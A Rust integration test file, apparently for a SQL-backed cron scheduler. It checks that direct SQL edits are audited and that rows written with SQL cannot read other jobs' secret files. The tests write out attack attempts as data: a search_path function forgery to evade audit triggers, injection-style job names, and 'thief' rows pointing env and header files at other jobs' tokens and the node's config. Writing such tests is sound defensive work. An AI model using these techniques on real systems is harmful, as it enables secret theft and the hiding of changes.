    let alice = alice();
    let job = |name: &str| sqlcron::model::job::JobSpec {
        name: name.into(),
        schedule: "@daily".into(),
        command: Some("true".into()),
        enabled: true,
        ..Default::default()
    };
    store
        .apply_toml(&[job("a"), job("t")], false, &alice)
        .await
        .unwrap();
    assert!(store.request_run("a", &alice).await.unwrap());
    assert!(store.set_signature("a", "sig", &alice).await.unwrap());
    for defs in [
        vec![("hol".to_string(), "2026-12-25 Christmas".to_string())],
        vec![("hol".to_string(), "2026-12-26 Boxing day".to_string())],
        vec![],
    ] {
        store.apply_calendars(&defs, &alice).await.unwrap();
    }
    let actions = |log: &[sqlcron::store::AuditRow], after: i64| -> Vec<(String, String)> {
        log.iter()
            .filter(|r| r.id > after)
            .map(|r| (r.action.clone(), r.job.clone().unwrap_or_default()))
            .collect()
    };
    let pairs = |v: &[(&str, &str)]| -> Vec<(String, String)> {
        v.iter()
            .map(|(a, j)| (a.to_string(), j.to_string()))
            .collect()
    };
    let mut log = store.audit_log(None, 100).await.unwrap();
    log.sort_by_key(|r| r.id);
    assert_eq!(
        actions(&log, 0),
        pairs(&[
            ("apply_create", "a"),
            ("apply_create", "t"),
            ("run", "a"),
            ("sign", "a"),
            ("calendar_write", "hol"),
            ("calendar_write", "hol"),
            ("calendar_remove", "hol"),
        ])
    );
    assert!(log.iter().all(|r| r.who == "alice"), "{log:?}");
    let before = log.last().unwrap().id;

    // Through connections that never vouched for anything, as `psql`'s.
    let writer = db.store().await;
    for sql in [
        // Clearing a requested run is what a release does: not a change of the definition.
        "UPDATE cron_table SET run_now = 0 WHERE name = 'a'",
        "UPDATE cron_table SET run_now = 1 WHERE name = 'a'",
        "UPDATE cron_table SET run_on = 'every_node', template = 'x' WHERE name = 't'",
        "UPDATE cron_table SET source = 'sql', toml_enabled = 0 WHERE name = 't'",
        "UPDATE cron_table SET signature = 'forged', upstream_run = '{}' WHERE name = 'a'",
        "UPDATE cron_table SET stop_token = token WHERE name = 'a'",
        // Only the case differs: MySQL's `<=>` on text once said these were equal.
        "UPDATE cron_table SET command = 'TRUE' WHERE name = 't'",
        "INSERT INTO cron_calendars (name, entries) VALUES ('sqlcal', '2026-12-25 X')",
        "UPDATE cron_calendars SET entries = '2026-12-31 Y' WHERE name = 'sqlcal'",
        "DELETE FROM cron_calendars WHERE name = 'sqlcal'",
    ] {
        writer.execute_raw(sql).await.unwrap();
    }
    writer.close().await;
    let mut expected = vec![
        ("sql_update", "a", Some("changed run_now")),
        ("sql_update", "t", Some("changed run_on,template")),
        ("sql_update", "t", Some("changed source,toml_enabled")),
        ("sql_update", "a", Some("changed signature,upstream_run")),
        ("sql_update", "a", Some("changed stop_token")),
        ("sql_update", "t", Some("changed command")),
        ("sql_calendar_insert", "sqlcal", None),
        ("sql_calendar_update", "sqlcal", Some("changed entries")),
        ("sql_calendar_delete", "sqlcal", None),
    ];
    if dialect == Dialect::Postgres {
        // One connection, so that the temporary table is the writer's own.
        let one = Store::connect(&crate::util::db_url(&db.url), 1).unwrap();
        one.execute_raw(
            "CREATE TEMPORARY TABLE cron_audit (LIKE public.cron_audit INCLUDING DEFAULTS)",
        )
        .await
        .unwrap();
        one.execute_raw("UPDATE cron_table SET retries = 7 WHERE name = 'a'")
            .await
            .unwrap();
        let caught: Option<i64> = one.scalar("SELECT COUNT(*) FROM cron_audit").await.unwrap();
        assert_eq!(
            caught,
            Some(0),
            "the temporary table caught the trigger's row"
        );
        one.execute_raw("TRUNCATE cron_calendars").await.unwrap();
        // A current_setting() of the writer's own, ahead of pg_catalog, answering its forged
        // marker: the triggers' check does not call it.
        for sql in [
            "UPDATE cron_table SET run_now = 0 WHERE name = 'a'",
            "CREATE SCHEMA forger",
            "CREATE FUNCTION forger.current_setting(text, boolean) RETURNS text \
             LANGUAGE sql AS $$ SELECT 'forged'::text $$",
            "SET search_path = forger, pg_catalog, public",
            "UPDATE cron_table SET run_now = 1, changed_by = 'forged' WHERE name = 'a'",
        ] {
            one.execute_raw(sql).await.unwrap();
        }
        one.close().await;
        expected.push(("sql_update", "a", Some("changed retries")));
        expected.push(("sql_truncate", "cron_calendars", None));
        expected.push(("sql_update", "a", Some("changed run_now")));
    }
    let mut log = store.audit_log(None, 100).await.unwrap();
    log.sort_by_key(|r| r.id);
    let newest: Vec<&sqlcron::store::AuditRow> = log.iter().filter(|r| r.id > before).collect();
    assert_eq!(
        newest
            .iter()
            .map(|r| (r.action.as_str(), r.job.as_deref().unwrap_or("")))
            .collect::<Vec<_>>(),
        expected
            .iter()
            .map(|(a, j, _)| (*a, *j))
            .collect::<Vec<_>>(),
        "{newest:#?}"
    );
    for (row, (_, _, detail)) in newest.iter().zip(&expected) {
        assert_eq!(row.who, "sql", "{row:?}");
        if let Some(detail) = detail {
            assert!(
                row.detail.as_deref().unwrap_or("").starts_with(detail),
                "{row:?} should say {detail}"
            );
        }
    }
    store.close().await;
}

/// MySQL and MariaDB: the audit trigger's guard compares `definition_digest` alone (migration
/// 0022), so a definition column missing from the digest would be changed with SQL unrecorded.
/// Every column of `cron_table` is in the digest's expression or is one of the run's own
/// columns listed here; with every text column at its longest, a SQL change of each column in
/// the digest changes the digest (for a text column also to NULL, to '' and in case only); a
/// claim and a release leave it as it was; and a value of its own is not written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mysql_definition_digest_covers_every_definition_column() {
    // Written by the run path, by the un-parking or by sqlcron itself; not a definition.
    const NOT_DEFINITION: &[&str] = &[
        "id",
        "toml_hash",
        "next_exec",
        "slot",
        "attempt",
        "exec_by",
        "prev_exec_by",
        "lease_until",
        "token",
        "claim_id",
        "claimed_at",
        "run_now",
        "dirty",
        "last_status",
        "last_exit",
        "last_start",
        "last_end",
        "last_node",
        "error",
        "pool_wait",
        "changed_by",
        "stop_token",
        "chain_cursor",
        "definition_digest",
        // Generated from `placement` (in the digest) for the peek's index; nobody can write it.
        "placed",
    ];
    let db = TestDb::new(Dialect::Mysql).await;
    let store = db.store().await;
    store
        .execute_raw(
            "INSERT INTO cron_table (name, schedule, command) VALUES ('d', '@daily', 'true')",
        )
        .await
        .unwrap();
    let pool = sqlx::AnyPool::connect(&db.url).await.unwrap();
    let columns: Vec<(String, String)> = sqlx::query_as(
        "SELECT CAST(column_name AS CHAR), CAST(data_type AS CHAR) FROM information_schema.columns \
         WHERE table_schema = DATABASE() AND table_name = 'cron_table' ORDER BY ordinal_position",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    assert!(columns.len() > 50, "{columns:?}");
    let expression: String = sqlx::query_scalar(
        "SELECT CAST(generation_expression AS CHAR) FROM information_schema.columns \
         WHERE table_schema = DATABASE() AND table_name = 'cron_table' \
         AND column_name = 'definition_digest'",
    )
    .fetch_one(&pool)
    .await
    .unwrap();
    let digest = || async {
        store
            .scalar::<String>("SELECT HEX(definition_digest) FROM cron_table")
            .await
            .unwrap()
            .expect("a digest, not NULL")
    };
    // Every text column of a definition at its longest: the digest hashes each column on its
    // own, so its input stays short (a CONCAT of them could pass max_allowed_packet and be NULL).
    for (column, data_type) in &columns {
        if data_type == "text" && expression.contains(&format!("`{column}`")) {
            store
                .execute_raw(&format!(
                    "UPDATE cron_table SET {column} = REPEAT('a', 65000)"
                ))
                .await
                .unwrap();
        }
    }
    let mut covered = 0;
    for (column, data_type) in &columns {
        let named = expression.contains(&format!("`{column}`"));
        if NOT_DEFINITION.contains(&column.as_str()) {
            assert!(
                !named || column == "definition_digest",
                "{column} is in the digest"
            );
            continue;
        }
        assert!(
            named,
            "{column} is neither in definition_digest nor a run column"
        );
        let change = if data_type == "bigint" {
            format!("IFNULL({column}, 0) + 1")
        } else {
            format!("CONCAT(IFNULL({column}, ''), 'x')")
        };
        let before = digest().await;
        store
            .execute_raw(&format!("UPDATE cron_table SET {column} = {change}"))
            .await
            .unwrap();
        assert_ne!(digest().await, before, "a change of {column}");
        if data_type == "text" {
            // NULL, the empty text and a change of case only are each a change.
            for value in ["NULL", "''", "'a'", "'A'"] {
                let before = digest().await;
                store
                    .execute_raw(&format!("UPDATE cron_table SET {column} = {value}"))
                    .await
                    .unwrap();
                assert_ne!(digest().await, before, "{column} set to {value}");
            }
        }
        covered += 1;
    }
    assert_eq!(
        covered, 38,
        "the columns the guard of migration 0021 compared"
    );

    // A run changes no definition column.
    let now = store.now().await.unwrap();
    store
        .execute_raw(&format!(
            "UPDATE cron_table SET next_exec = {0}, slot = {0}, error = NULL, enabled = 1, \
             run_on = NULL, template = NULL, placement = NULL, pool = NULL, requires = NULL, \
             after_jobs = NULL, calendars = NULL",
            now - 1000
        ))
        .await
        .unwrap();
    let before = digest().await;
    let (rows, keys) = crate::util::claim_and_start(&store, "a", 1, now - 1000).await;
    assert_eq!(rows.len(), 1);
    assert_eq!(digest().await, before, "the claim");
    let release = crate::util::ok_release(now + 60_000, "ran\n");
    store
        .release(rows[0].id, "a", rows[0].token, &release, Some(&keys[0]))
        .await
        .unwrap();
    assert_eq!(digest().await, before, "the release");

    // Refused (strict mode) or ignored with a warning: either way not written.
    let _ = store
        .execute_raw("UPDATE cron_table SET definition_digest = UNHEX(SHA2('x', 256))")
        .await;
    assert_eq!(digest().await, before, "a value of its own was written");
    pool.close().await;
    store.close().await;
}

/// `sqlcron run` and `sqlcron audit --json` from the command line name the Unix user.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_actions_are_audited() {
    let db = TestDb::new(Dialect::Sqlite).await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        format!(
            "[database]\nurl = \"{}\"\n[[job]]\nname = \"j\"\nschedule = \"@daily\"\ncommand = \"true\"\n",
            db.url
        ),
    )
    .unwrap();
    let cli = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_sqlcron"))
            .arg("--config")
            .arg(&cfg)
            .args(args)
            .env_remove("SQLCRON_DATABASE_URL")
            .env_remove("SUDO_USER")
            .output()
            .unwrap()
    };
    assert!(cli(&["apply"]).status.success());
    // No daemon runs here: the run is asked for all the same (--queue).
    assert!(cli(&["run", "--queue", "j"]).status.success());
    assert!(cli(&["pause", "j"]).status.success());
    let out = cli(&["audit", "j", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let rows: Vec<serde_json::Value> = serde_json::from_str(&stdout(&out)).unwrap();
    let actions: Vec<&str> = rows.iter().map(|r| r["action"].as_str().unwrap()).collect();
    assert_eq!(actions, ["pause", "run", "apply_create"]);
    let me = sqlcron::exec::account::current().unwrap().name;
    assert_eq!(rows[0]["who"], me.as_str());
    let out = cli(&["audit"]);
    assert!(stdout(&out).lines().next().unwrap().starts_with("WHEN"));
}

/// Job and node names are one character set everywhere: a row written with SQL with another
/// name is parked with the reason (and never labels a metric), the TOML and `at --name` refuse
/// one before anything is written.
async fn names_are_a_documented_character_set(dialect: Dialect) {
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
    let dir = tempfile::tempdir().unwrap();
    let config = crate::util::node_config(&db.url, "n", "");
    let node = DaemonProcess::start(dir.path(), "n", &config);
    for name in ["two words", "forged\"}{job=\"backup", "ok-name"] {
        store
            .execute_raw(&format!(
                "INSERT INTO cron_table (name, schedule, command) VALUES ('{}', '* * * * * *', 'true')",
                name.replace('\'', "''")
            ))
            .await
            .unwrap();
    }
    for name in ["two words", "forged\"}{job=\"backup"] {
        let e = eventually(
            Duration::from_secs(15),
            &format!("{name} parked"),
            || async { store.job(name).await.unwrap().and_then(|j| j.error) },
        )
        .await;
        assert!(
            e.starts_with("name: ") && e.contains("a name is ASCII letters"),
            "{e}"
        );
    }
    first_run(&store, "ok-name").await;
    drop(node);

    let cfg = dir.path().join("bad.toml");
    std::fs::write(
        &cfg,
        format!(
            "{config}\n[[job]]\nname = \"nightly backup\"\nschedule = \"@daily\"\ncommand = \"true\"\n"
        ),
    )
    .unwrap();
    let out = crate::util::sqlcron(&["--config", cfg.to_str().unwrap(), "check"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("job \"nightly backup\" name"),
        "{}",
        stderr(&out)
    );
    std::fs::write(&cfg, &config).unwrap();
    let out = crate::util::sqlcron(&[
        "--config",
        cfg.to_str().unwrap(),
        "at",
        "now",
        "--name",
        "a;b",
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("--name \"a;b\" holds ';'"),
        "{}",
        stderr(&out)
    );
}

/// A PostgreSQL URL parameter the driver does not know is refused by name: the driver would
/// ignore it and log its value.
#[test]
fn unknown_url_parameters_never_reach_the_log() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        "[database]\nurl = \"postgres://u@127.0.0.1:5432/x?sslmode=disable&apikey=s3cr3t\"\n",
    )
    .unwrap();
    for command in ["check", "status"] {
        let out = crate::util::sqlcron(&["--config", cfg.to_str().unwrap(), command]);
        assert_eq!(out.status.code(), Some(2), "{command}");
        let err = stderr(&out);
        assert!(
            err.contains("\"apikey\"") && !err.contains("s3cr3t"),
            "{err}"
        );
    }
}

/// Issue 25 (17): a row written with SQL cannot have the daemon read a file for it outside
/// `[security] file_dirs` (another job's `env_file` or `headers_file`), while the node's own
/// TOML job may name its file anywhere; an HTTP job's `headers_file` keeps its token out of the
/// database and reaches the server.
async fn files_a_row_names_are_read_only_where_the_node_allows(dialect: Dialect) {
    use std::os::unix::fs::PermissionsExt;
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
    let dir = tempfile::tempdir().unwrap();
    let server = crate::http_server::TestServer::start(None).await;
    let base = format!("http://127.0.0.1:{}", server.port);
    let allowed = dir.path().join("allowed");
    let other = dir.path().join("other");
    for d in [&allowed, &other] {
        std::fs::create_dir(d).unwrap();
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let write = |path: &std::path::Path, text: &str| {
        std::fs::write(path, text).unwrap();
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).unwrap();
    };
    // A TOML job's env_file lies in a file_dirs directory: still read for that job alone.
    let (own_env, own_headers) = (allowed.join("own.env"), other.join("own.headers"));
    write(&own_env, "TOKEN=own-secret\n");
    write(&own_headers, "Authorization: Bearer own-token\n");
    let shared_env = allowed.join("shared.env");
    write(&shared_env, "TOKEN=shared\n");
    let ca_fifo = allowed.join("ca.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&ca_fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let ca_large = allowed.join("large.pem");
    std::fs::write(&ca_large, vec![b'#'; 5 << 20]).unwrap();
    // A link in an allowed directory to a file outside it is not followed.
    std::os::unix::fs::symlink(&allowed, allowed.join("self")).unwrap();
    std::fs::hard_link(&own_env, allowed.join("hard.env")).unwrap();
    let ca_link = allowed.join("link.pem");
    std::os::unix::fs::symlink(&own_headers, &ca_link).unwrap();
    let out = |job: &str| dir.path().join(format!("{job}.out"));
    // The node's own [defaults] webhook names a token file: only that hook may read it, even
    // in a file_dirs directory.
    let defaults_headers = allowed.join("defaults.headers");
    write(&defaults_headers, "Authorization: Bearer defaults-token\n");
    let extra = format!(
        "[security]\nfile_dirs = [\"{allowed}\"]\n\
         [defaults]\non_failure = {{ url = \"{base}/defaults\", headers_file = \"{defaults_headers}\" }}\n\
         [[job]]\nname = \"own\"\nschedule = \"* * * * * *\"\nenv_file = \"{own_env}\"\n\
         command = \"echo $TOKEN > {own_out}\"\n\
         [[job]]\nname = \"own-http\"\nschedule = \"* * * * * *\"\n\
         http = {{ url = \"{base}/ok\", headers_file = \"{own_headers}\" }}\n\
         [[job]]\nname = \"local\"\nschedule = \"* * * * * *\"\nrun_on = \"every_node\"\n\
         env_file = \"{own_env}\"\ncommand = \"echo $TOKEN >> {local_out}\"\n",
        allowed = allowed.display(),
        own_env = own_env.display(),
        own_out = out("own").display(),
        local_out = out("local").display(),
        own_headers = own_headers.display(),
        defaults_headers = defaults_headers.display(),
    );
    // The node's own configuration lies in a file_dirs directory: never read for a row.
    let node = DaemonProcess::start(
        &allowed,
        "n",
        &crate::util::node_config(&db.url, "n", &extra),
    );
    let config_file = allowed.join("n.toml");
    assert!(config_file.exists());
    eventually(Duration::from_secs(15), "the TOML jobs applied", || async {
        store.job("own-http").await.unwrap().map(|_| ())
    })
    .await;
    // A host-local job's copy reads the job's env_file as the job does; a row naming the job as
    // its template with the copy's very columns, but not pinned to this node (nor named for it),
    // reads nothing: it would run the job, and read its secret, where the job does not run.
    eventually(Duration::from_secs(15), "the copy local@n", || async {
        store.job("local@n").await.unwrap().map(|_| ())
    })
    .await;
    store
        .execute_raw(
            "INSERT INTO cron_table (name, schedule, template, command, argv, env, env_file, \
             http, inherit_env, limits, run_user, run_group, workdir, alerts) \
             SELECT 'stolen', schedule, template, command, argv, env, env_file, http, \
             inherit_env, limits, run_user, run_group, workdir, alerts FROM cron_table \
             WHERE name = 'local@n'",
        )
        .await
        .unwrap();
    let rows = [
        (
            "thief",
            format!("'{}'", own_env.display()),
            format!("'echo $TOKEN > {}'", out("thief").display()),
            "NULL".to_string(),
        ),
        // Issue 49, finding 5: a row borrowing the TOML job's name (a backfill row's form)
        // with a command of its own.
        (
            "own#backfill-7",
            format!("'{}'", own_env.display()),
            format!("'echo $TOKEN > {}'", out("borrower").display()),
            "NULL".to_string(),
        ),
        // The same file through a directory link in file_dirs.
        (
            "link-thief",
            format!("'{}'", allowed.join("self").join("own.env").display()),
            format!("'echo $TOKEN > {}'", out("link-thief").display()),
            "NULL".to_string(),
        ),
        // And through a hard link.
        (
            "hardlink-thief",
            format!("'{}'", allowed.join("hard.env").display()),
            format!("'echo $TOKEN > {}'", out("link-thief").display()),
            "NULL".to_string(),
        ),
        (
            "sharer",
            format!("'{}'", shared_env.display()),
            format!("'echo $TOKEN > {}'", out("sharer").display()),
            "NULL".to_string(),
        ),
        (
            "thief-http",
            "NULL".to_string(),
            "NULL".to_string(),
            format!(
                "'{{\"url\":\"{base}/thief\",\"headers_file\":\"{}\"}}'",
                own_headers.display()
            ),
        ),
        // A row's CA file is read with the daemon's rights too: outside file_dirs nothing is
        // read; inside, a FIFO (it blocked the read for good) or a file too large is refused.
        (
            "ca-reader",
            "NULL".to_string(),
            "NULL".to_string(),
            format!(
                "'{{\"url\":\"{base}/thief\",\"ca_file\":\"{}\"}}'",
                own_headers.display()
            ),
        ),
        (
            "ca-fifo",
            "NULL".to_string(),
            "NULL".to_string(),
            format!(
                "'{{\"url\":\"{base}/thief\",\"ca_file\":\"{}\"}}'",
                ca_fifo.display()
            ),
        ),
        (
            "ca-large",
            "NULL".to_string(),
            "NULL".to_string(),
            format!(
                "'{{\"url\":\"{base}/thief\",\"ca_file\":\"{}\"}}'",
                ca_large.display()
            ),
        ),
        (
            "ca-link",
            "NULL".to_string(),
            "NULL".to_string(),
            format!(
                "'{{\"url\":\"{base}/thief\",\"ca_file\":\"{}\"}}'",
                ca_link.display()
            ),
        ),
        // A row sending the node's own configuration (its database URL) as headers.
        (
            "config-thief",
            "NULL".to_string(),
            "NULL".to_string(),
            format!(
                "'{{\"url\":\"{base}/thief\",\"headers_file\":\"{}\"}}'",
                config_file.display()
            ),
        ),
        // A row's request borrowing the [defaults] webhook's token file.
        (
            "defaults-thief",
            "NULL".to_string(),
            "NULL".to_string(),
            format!(
                "'{{\"url\":\"{base}/thief\",\"headers_file\":\"{}\"}}'",
                defaults_headers.display()
            ),
        ),
    ];
    for (name, env_file, command, http) in &rows {
        store
            .execute_raw(&format!(
                "INSERT INTO cron_table (name, schedule, command, env_file, http) \
                 VALUES ('{name}', '* * * * * *', {command}, {env_file}, {http})"
            ))
            .await
            .unwrap();
    }
    // A row's own failure hook borrowing the [defaults] webhook's token file.
    store
        .execute_raw(&format!(
            "INSERT INTO cron_table (name, schedule, command, alerts) \
             VALUES ('hook-thief', '* * * * * *', 'false', \
             '{{\"on_failure\":{{\"url\":\"{base}/thief\",\"headers_file\":\"{}\"}}}}')",
            defaults_headers.display()
        ))
        .await
        .unwrap();
    // The node's own jobs read their files wherever they are.
    let own = first_run(&store, "own").await;
    assert_eq!(own.outcome, "ok", "{own:?}");
    assert_eq!(
        std::fs::read_to_string(out("own")).unwrap().trim(),
        "own-secret"
    );
    let own_http = first_run(&store, "own-http").await;
    assert_eq!(own_http.outcome, "ok", "{own_http:?}");
    let seen = server.requests("/ok");
    assert_eq!(
        seen[0].headers.get("authorization").map(String::as_str),
        Some("Bearer own-token")
    );
    // The token is on the node, not in the table.
    let row = store.job("own-http").await.unwrap().unwrap();
    assert!(!format!("{row:?}").contains("own-token"), "{row:?}");
    // A row may name a file in file_dirs ...
    let sharer = first_run(&store, "sharer").await;
    assert_eq!(sharer.outcome, "ok", "{sharer:?}");
    assert_eq!(
        std::fs::read_to_string(out("sharer")).unwrap().trim(),
        "shared"
    );
    // ... and not another job's file elsewhere: failed, saying why, nothing run or sent.
    let local = first_run(&store, "local@n").await;
    assert_eq!(local.outcome, "ok", "{local:?}");
    for (job, owner) in [
        ("thief", Some("job \"own\"")),
        ("link-thief", Some("job \"own\"")),
        ("hardlink-thief", Some("job \"own\"")),
        ("thief-http", None),
        ("own#backfill-7", Some("job \"own\"")),
        ("defaults-thief", Some("[defaults]")),
        ("ca-reader", None),
        ("stolen", Some("job \"own\"")),
    ] {
        let r = first_run(&store, job).await;
        assert_eq!(r.outcome, "failed", "{r:?}");
        let m = r.message.clone().unwrap_or_default();
        assert!(
            m.contains("is not a file this node reads for this job") && m.contains("file_dirs"),
            "{m}"
        );
        if let Some(owner) = owner {
            assert!(m.contains(&format!("names it for {owner}")), "{job}: {m}");
        }
    }
    for (job, why) in [
        ("config-thief", "is one of this node's own files"),
        ("ca-fifo", "is not a regular file"),
        ("ca-large", "is larger than 4 MiB"),
        ("ca-link", "is a symbolic link"),
    ] {
        let r = first_run(&store, job).await;
        assert_eq!(r.outcome, "failed", "{r:?}");
        let m = r.message.clone().unwrap_or_default();
        assert!(m.contains("_file") && m.contains(why), "{job}: {m}");
    }
    let refused = eventually(Duration::from_secs(30), "hook-thief's hook", || async {
        let events = store.events(Some("hook-thief"), 10).await.unwrap();
        events.into_iter().find(|e| e.error.is_some())
    })
    .await;
    let m = refused.error.unwrap_or_default();
    assert!(
        m.contains("headers_file") && m.contains("is not a file this node reads for this job"),
        "{m}"
    );
    assert!(!out("thief").exists());
    assert!(!out("link-thief").exists());
    assert!(!out("borrower").exists());
    assert!(server.requests("/thief").is_empty());
    drop(node);
    store.close().await;
}
